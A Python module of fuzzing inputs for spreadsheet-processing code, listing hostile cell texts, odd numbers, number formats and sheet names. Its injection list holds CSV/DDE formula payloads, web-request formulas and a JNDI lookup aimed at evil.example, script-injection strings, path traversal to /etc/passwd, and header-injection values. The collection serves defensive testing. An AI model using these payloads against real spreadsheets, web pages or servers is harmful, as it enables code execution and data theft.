"""Texts, numbers and formats that have hurt programs before, for cells of workbooks."""

from __future__ import annotations

import random

INJECTIONS = (
    '=HYPERLINK("http://evil.example/x","click")',
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "{=1+1}",
    '=WEBSERVICE("http://evil.example/w")',
    '=IMPORTXML("http://evil.example/i","//a")',
    "<script>trap()</script>",
    "</script><script>trap()</script>",
    "</style><script>trap()</script>",
    '"><img src=http://evil.example/i onerror=trap()>',
    "' onmouseover='trap()' x='",
    '" autofocus onfocus="trap()',
    "<svg onload=trap()>",
    "<!-- ]]> --><iframe src=http://evil.example/f></iframe>",
    "</title></svg><img src=x onerror=trap()>",
    "javascript:trap()",
    "http://evil.example/plain",
    "https://evil.example/secure?a=1&b=<2>",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "../../../../tmp/evil",
    "..\\..\\evil",
    "/etc/passwd",
    "C:\\Windows\\evil",
    "Name\r\nBcc: evil@evil.example",
    "Name\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/a",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{0.__class__}",
    "{found}",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "red;background:url(http://evil.example/c)",
    "url(http://evil.example/u)",
    "</w:t><o:OLEObject/>",
    "%3Cscript%3Etrap()%3C/script%3E",
    "&lt;script&gt;trap()&lt;/script&gt;",
    "&#60;script&#62;trap()&#60;/script&#62;",
    "\u202eevil\u202c",
    "\u2066\u2067x\u2069",
    "a\x00b",
    "a\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x9b31m",
    "\x07\x08\x0c\x7f",
    "[bold red]markup[/]",
    "[/]",
    "[link=http://evil.example]x[/link]",
    "\ud800",
    "\uffff\ufffe",
    "_x0000_",
    "_x000D__x003D_1+1",
    "_xD800_",
    "[Red]0",
    "&P&D&Z&F",
    '&G&"Arial"&72',
    ":emoji: :smile:",
    "(" * 200,
    "A" * 40_000,
    "é\u0301" * 500,
    "𝟙𝟚𝟛",
    "١٢٣",
    "１２３",
)

NUMBERS = (
    *("0", "-0", "1e308", "-1e308", "1e-320", "9007199254740993", "1e16", "0.1", "-1", "2"),
    *("45678", "2026", "202601", "2958465", "2958466", "60", "1e400", "nan", "inf", "-inf"),
)

WRITTEN = (
    *("1 234,5", "1,234.5", "(1 234)", "1'234", "12,5 %", "4.2k", "1.5M", "€ 12", "1.2.3", "--1"),
    *("12-", "1e5", "0x10", "½", "1/2", "5% of target", "2 pts", "+40%", "-10 %", "+5 pts", "%"),
    *("2026-01", "Jan-26", "janv. 2026", "T1 2026", "Q1 FY26", "2025/26", "0000-00", "99/99/9999"),
    *("31/02/2026", "2026-13", "W12", "P5", "Q9 2026", "FY0", "1 2 3 4 5", "-", "n/a", "n.d."),
    *("#DIV/0!", "#REF!", "", " ", "\u00a0", "\u200b", "yes", "no", "oui", "TRUE", "all", "Total"),
)

FORMATS = (
    *("General", "0.0%", "#,##0,", '0 "k€"', "[$$-409]0", "yyyy", ";;;", '"', "0,,,", "[h]:mm"),
    *("mmm-yy", "[Red][<0]-0;0", "0.0\\%", "[$€-40C]#,##0.00", "@", "[" * 50, "0." + "0" * 400),
    *("dd/mm/yyyy", "%%%", "# ?/?", "[DBNum1]0", "\\", "_", "*x0", "[$-F800]dddd", ""),
)

NAMES = ("Café & Co", "O'Neil", "Plan!A", "Suivi 2026", "S" * 31, "x", "Data", "_xlnm", "<a>", "=A")


def hostile_text(draw: random.Random) -> str:
    """An injection, a number or period written somehow, a long text, or anything at all."""
    kind = draw.random()
    if kind < 0.45:
        return draw.choice(INJECTIONS)
    if kind < 0.8:
        return draw.choice(WRITTEN)
    if kind < 0.87:
        piece = draw.choice(("1", "1 ", "1,", "a", " ", "-", "(", "é", "2026-", "'", '"', "q1 "))
        return piece * draw.choice((10, 100, 1000, 10_000))
    return "".join(
        chr(draw.choice((draw.randrange(128), draw.randrange(0x3000)))) for _ in range(8)
    )
